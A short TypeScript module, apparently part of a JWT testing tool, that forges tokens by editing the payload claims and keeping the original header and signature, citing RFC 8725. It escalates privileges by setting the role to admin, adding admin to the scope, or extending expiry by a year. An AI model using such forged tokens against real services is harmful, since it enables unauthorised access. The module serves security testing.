import type { JsonObject, JsonValue } from '../json';
import type { Forging } from './attack';
import { payloadPart, withOriginal } from './parts';

/** A year, in seconds. */
const YEAR = 31_536_000;

export const editedClaims: Forging = {
  changes: 'Changes claims, such as the role, and leaves header and signature as they are.',
  why: 'The payload is only encoded. Code that decodes a token without verifying it believes whatever stands there.',
  stops: 'Verifying the signature before reading anything.',
  source: 'RFC 8725 §3.3',
  needs: [],
  forge: (token, tools) =>
    withOriginal(token, (original) => {
      const payload = payloadPart(original, { ...tools, claims: tools.claims ?? temptation(original.claims) });
      return {
        ok: true,
        tokens: [`${original.jws.header.raw}.${payload.raw}.${original.jws.signature.raw}`],
        changes: payload.changes,
        note: 'The signature is the old one and does not match any more.',
      };
    }),
};

/** What somebody would change first in this token. */
function temptation(claims: JsonObject): Readonly<Record<string, JsonValue>> {
  if (typeof claims['role'] === 'string') return { role: 'admin' };
  if (Array.isArray(claims['roles'])) return { roles: ['admin'] };
  if (typeof claims['admin'] === 'boolean') return { admin: true };
  if (typeof claims['scope'] === 'string') return { scope: `${claims['scope']} admin` };
  if (typeof claims['exp'] === 'number') return { exp: claims['exp'] + YEAR };
  return { role: 'admin' };
}
